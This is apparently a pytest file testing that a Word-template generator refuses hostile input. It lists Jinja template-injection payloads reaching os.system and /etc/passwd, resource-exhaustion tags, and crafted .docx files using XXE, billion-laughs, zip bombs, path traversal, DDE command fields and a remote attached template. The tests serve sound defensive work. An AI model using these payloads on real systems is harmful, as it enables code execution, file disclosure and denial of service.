"""What somebody may put into a template: named by `template check`, or stopped when it is filled; never run.

The whole of a Word file that is hostile as a file has its tests beside ``generator.word``; here are the tags, and the
files that only a template could be. Each in a process with limits.
"""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from functools import partial
from io import BytesIO
from typing import Any

import pytest

from generator.checking import problems_of_template
from generator.compiled import compile_template
from generator.fill import fill
from generator.issue import word_file
from generator.word.package import PARTS_MAX
from inconfidence.core.errors import InConfidenceError
from tests.corpus_word.file import OFFICE, code, docx, mark, para, run, zipped
from tests.generator.hostile.limits import within_limits
from tests.generator.test_checking import lines
from tests.generator.test_fill import template, view
from tests.generator.word.making import rewritten

SECRET = "Yıldız-canary"
NUMBER = "1000000000"


def doubling(made: str, begun: str = "referral.seen", end: str = "{{ x|length }}") -> str:
    """Return tags that make ``x`` of itself forty times over."""
    return f"{{% set x = {begun} %}}" + f"{{% set x = {made} %}}" * 40 + end


TAGS = {
    "a class behind a text": "{{ ''.__class__.__mro__ }}",
    "a class behind a value": "{{ referral.seen.__class__ }}",
    "a class behind a record": "{{ referral.__class__.__init__.__globals__ }}",
    "a class by its key": "{{ referral['__class__'] }}",
    "a class by the filter": "{{ referral.seen|attr('__class__') }}",
    "classes by the filter of filters": "{{ [referral.seen]|map(attribute='__class__')|list }}",
    "a cycler": "{{ cycler.__init__.__globals__.os.system('true') }}",
    "a joiner": "{{ joiner.__init__.__globals__ }}",
    "a namespace": "{{ namespace.__init__.__globals__ }}",
    "filler words": "{{ lipsum.__globals__['os'] }}",
    "many filler words": f"{{{{ lipsum(n={NUMBER}) }}}}",
    "the template itself": "{{ self.__init__.__globals__ }}",
    "the loop": "{% for x in 'a' %}{{ loop.__class__ }}{% endfor %}",
    "a macro": "{% macro m() %}{% endmacro %}{{ m.__globals__ }}",
    "a format string that reaches out": "{{ '{0.__class__.__mro__}'.format(referral) }}",
    "a format string of a mapping": "{{ '{x.__class__}'.format_map({'x': referral}) }}",
    "a format string without end": f"{{{{ '{{:>{NUMBER}}}'.format(1) }}}}",
    "a percent string without end": f"{{{{ '%{NUMBER}d' % 1 }}}}",
    "a text that doubles itself": "{% set x = referral.seen %}" + "{% set x = x ~ x %}" * 40 + "{{ x }}",
    "a text that doubles itself by turns": doubling("x ~ x"),
    "a sum that doubles itself": doubling("x + x"),
    "a joint that doubles itself": doubling("[x, x]|join"),
    "a text put into itself": doubling("x|replace('a', x)"),
    "a text put between its letters": doubling("x|list|join(x)"),
    "a format filled with itself": doubling("'{0}{0}'.format(x)"),
    "a percent string filled with itself": doubling("'%s%s' % (x, x)"),
    "a product that squares itself": doubling("x * x", "99999"),
    "a list that doubles itself": doubling("x + x", "[1]"),
    "a list in a list in a list": doubling("[x, x]", "[1]") + "{{ x }}",
    "lists in lists that are compared": doubling("[x, x]", "[1]", "{% set y = [x, x] %}{{ x == y }}"),
    "a list filled up with itself": doubling("[x]|batch(2, x)|list", "[1]"),
    "a block that doubles itself": (
        "{% set x %}{{ referral.seen }}{% endset %}" + "{% set x %}{{ x }}{{ x }}{% endset %}" * 40 + "{{ x }}"
    ),
    "loops in loops": "".join(f"{{% for a{at} in 'abcdefghijklmnop' %}}" for at in range(12)) + "{% endfor %}" * 12,
    "loops in loops that print": (
        "".join(f"{{% for a{at} in 'abcdefghijklmnop' %}}" for at in range(9)) + "some words" + "{% endfor %}" * 9
    ),
    "a condition over a long text, in a loop": (
        "{% for a in 'abcdefgh' %}" * 6 + "{% for x in referral.seen if false %}{% endfor %}" + "{% endfor %}" * 6
    ),
    "a loop that calls itself": "{% for a in 'ab' recursive %}{{ loop('ab') }}{% endfor %}",
    "a macro that calls itself": "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}",
    "macros that call each other twice": (
        "{% macro m0() %}x{% endmacro %}"
        + "".join(f"{{% macro m{at + 1}() %}}{{{{ m{at}() }}}}{{{{ m{at}() }}}}{{% endmacro %}}" for at in range(40))
        + "{{ m40() }}"
    ),
    "a list of the letters of a long text": "{% set x = referral.seen %}"
    + "{% set x = x ~ x %}" * 15
    + "{{ x|list }}",
    "lists summed up": "{{ [[1], [2]]|sum(start=[]) }}",
    "a width from a value": f"{{{{ '%*d' % ({NUMBER}, 1) }}}}",
    "a width from a value, by a format": f"{{{{ '{{:>{{}}}}'.format(1, {NUMBER}) }}}}",
    "a percent string by the filter": f"{{{{ '%{NUMBER}d'|format(1) }}}}",
    "a range without end": f"{{% for x in range({NUMBER}) %}}x{{% endfor %}}",
    "ranges in ranges": "{% for x in range(99999) %}{% for y in range(99999) %}x{% endfor %}{% endfor %}",
    "a text many times": f"{{{{ 'a' * {NUMBER} }}}}",
    "a text many times, counted": "{{ 'a' * 10**9 }}",
    "a list many times": f"{{{{ [1] * {NUMBER} }}}}",
    "a power": "{{ 9**9**9**9 }}",
    "a text made wide": f"{{{{ 'a'|center({NUMBER}) }}}}",
    "a text made wide by a worked out number": f"{{{{ 'a'|center('{NUMBER}'|int) }}}}",
    "a text made wide by its method": f"{{{{ 'a'.ljust({NUMBER}) }}}}",
    "noughts put before": f"{{{{ '1'.zfill({NUMBER}) }}}}",
    "a list filled up": f"{{{{ [1]|batch({NUMBER}, 'x')|list }}}}",
    "a list cut up": f"{{{{ [1]|slice({NUMBER})|list }}}}",
    "a number rounded to no end": f"{{{{ 1.5|round({NUMBER}, 'ceil') }}}}",
    "another file": "{% include '/etc/passwd' %}",
    "another file's macros": "{% import 'os' as os %}",
    "another file's blocks": "{% extends '/etc/passwd' %}",
    "a statement of an extension": "{% do referral.clear() %}",
    "a change of a value": "{% set x = referral.update({'a': 1}) %}",
    "a change of a list": "{{ [referral.seen].append(1) }}",
    "a tag that is not closed": "{{ referral.seen",
    "a tag that is misspelt": "{% fro x in referral.seen %}",
    "a loop that never ends": "{% for x in referral.seen %}",
    "an end of nothing": "{% endif %}",
    "a filter that is not": "{{ referral.seen|uppper }}",
    "a value that is not": "{{ referral.sene }}",
    "a value let through as mark-up": "{{ referral.seen|safe }}",
    "escaping turned off": "{% autoescape false %}{{ referral.seen }}{% endautoescape %}",
    "an answer to nothing": "{{ 1 / 0 }}",
}

AWAY = "http://192.0.2.1/away.dotm"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
BODY, MAIN = "word/document.xml", "word/_rels/document.xml.rels"
ENTITY = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<!DOCTYPE w [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(12)
)
TAG = para("{{ referral.seen }}")


def after_the_head(what: bytes) -> Callable[[bytes], bytes]:
    """Put something before the root of a part."""
    return lambda xml: xml.replace(b"?>", b"?>" + what, 1) if b"?>" in xml else what + xml


def outside(kind: str, address: str) -> Callable[[bytes], bytes]:
    """Let a part's relationships lead to somewhere else first."""
    one = f'<Relationship Id="rIdOut" TargetMode="External" Target="{address}" Type="{OFFICE}/{kind}"/>'
    return lambda xml: xml.replace(b"<Relationship ", one.encode() + b"<Relationship ", 1)


FILES: dict[str, Callable[[], bytes]] = {
    "an entity from the disk": lambda: rewritten(docx(TAG), BODY, after_the_head(ENTITY)),
    "entities in entities": lambda: rewritten(docx(TAG), BODY, after_the_head(LAUGHS + b"]>")),
    "an entity in the styles": lambda: rewritten(docx(TAG), "word/styles.xml", after_the_head(ENTITY)),
    "a part that unpacks a thousandfold": lambda: zipped({BODY: bytes(60_000_000)}),
    "more parts than a paper has": lambda: zipped({f"word/{at}.xml": b"" for at in range(PARTS_MAX + 1)}),
    "a part above the folder": lambda: zipped({"../../etc/cron.d/x": b"x"}),
    "a part at the root of the disk": lambda: zipped({"/etc/passwd": b"x"}),
    "a zip in a zip": lambda: zipped({"word/document.docx": docx(TAG)}),
    "another document": lambda: docx(TAG, '<w:altChunk r:id="rId9"/>'),
    "an object": lambda: docx(para("<w:r><w:object/></w:r>")),
    "a control": lambda: docx(para("<w:r><w:control/></w:r>")),
    "a command field": lambda: docx(
        para(f"{mark('begin')}{code('DDEAUTO cmd x')}{mark('separate')}{run('x')}{mark('end')}")
    ),
    "a simple command field": lambda: docx(
        para('<w:fldSimple w:instr="DDE cmd x"><w:r><w:t>x</w:t></w:r></w:fldSimple>')
    ),
    "a picture at an address": lambda: docx(
        para(
            '<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://192.0.2.1/x&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
        )
    ),
    "styles at an address": lambda: rewritten(docx(TAG), MAIN, outside("styles", "http://192.0.2.1/s.xml")),
    "macros": lambda: zipped({"word/vbaProject.bin": b"macro", BODY: "<x/>"}),
    "a file of Word before 2007": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000),
}


def with_remote_template() -> bytes:
    """Return a Word file that says it was begun from a template at an address, as Word writes it."""
    away = f'Id="rIdAway" TargetMode="External" Target="{AWAY}" Type="{OFFICE}/attachedTemplate"'
    with zipfile.ZipFile(BytesIO(docx(TAG))) as whole:
        parts: dict[str, bytes | str] = {name: whole.read(name) for name in whole.namelist()}
    parts["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship {away}/></Relationships>'
    )
    named = f'<w:attachedTemplate r:id="rIdAway" xmlns:r="{OFFICE}"/></w:settings>'
    parts["word/settings.xml"] = bytes(parts["word/settings.xml"]).replace(b"</w:settings>", named.encode())
    return zipped(parts)


def test_a_remote_template_is_named_and_goes_to_nobody() -> None:
    """It is named with its place when the template is checked; it is not fetched, and no paper carries it on."""
    hostile = with_remote_template()
    assert [(one.code, one.path) for one in problems_of_template(hostile)] == [("remote-template", "settings")]
    with zipfile.ZipFile(BytesIO(hostile)) as whole:
        assert AWAY in whole.read("word/_rels/settings.xml.rels").decode()

    issued = word_file(template(docx=hostile), view(seen="x"))

    with zipfile.ZipFile(BytesIO(issued)) as whole:
        content = b"".join(map(whole.read, whole.namelist()))
    assert b"192.0.2.1" not in content
    assert b"attachedTemplate" not in content


@pytest.mark.parametrize("name", TAGS)
def test_a_hostile_tag_is_never_run(name: str) -> None:
    """Refused when it is checked, or when it is filled in either way; and it tells no value."""
    check, refusals = within_limits(partial(outcome, TAGS[name]))

    assert check or all(refusals)
    assert SECRET not in str((check, refusals))


GROWING = [name for name in TAGS if (" itself" in name and "template" not in name) or "s in loops" in name]


@pytest.mark.parametrize("name", GROWING)
def test_what_grows_without_end_is_refused_in_words(name: str) -> None:
    """Whichever way it is filled, and with the tag that does it."""
    _, refusals = within_limits(partial(outcome, TAGS[name]))

    assert all("more than any paper holds" in each for each in refusals)
    assert all("at the tag {" in each for each in refusals)


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_named_by_code_and_place(name: str) -> None:
    """By `template check`, with what to do, and nothing is fetched."""
    found = within_limits(partial(checked, name))

    assert found
    assert all(code and place and remedy for code, place, remedy in found)


def outcome(tag: str) -> tuple[list[str], list[str]]:
    """Return what the check says of a tag, and how each way of filling it in refuses."""
    check = [f"{one.code} {one.message}" for one in problems_of_template(lines(tag), ("council", "referral"))]
    made, seen = template(tag), view(seen=SECRET)
    ways: tuple[Callable[[], Any], ...] = (lambda: fill(made, seen), lambda: compile_template(made).paper(seen))
    return check, [refused(way) for way in ways]


def refused(way: Callable[[], Any]) -> str:
    """Return the refusal of a piece of work in its words, or nothing."""
    try:
        way()
    except InConfidenceError as error:
        return f"{error.message} {error.hint}"
    return ""


def checked(name: str) -> list[tuple[str, str, str]]:
    """Return code, place and remedy of each problem of a file."""
    return [(one.code, one.path, one.remedy) for one in problems_of_template(FILES[name]())]
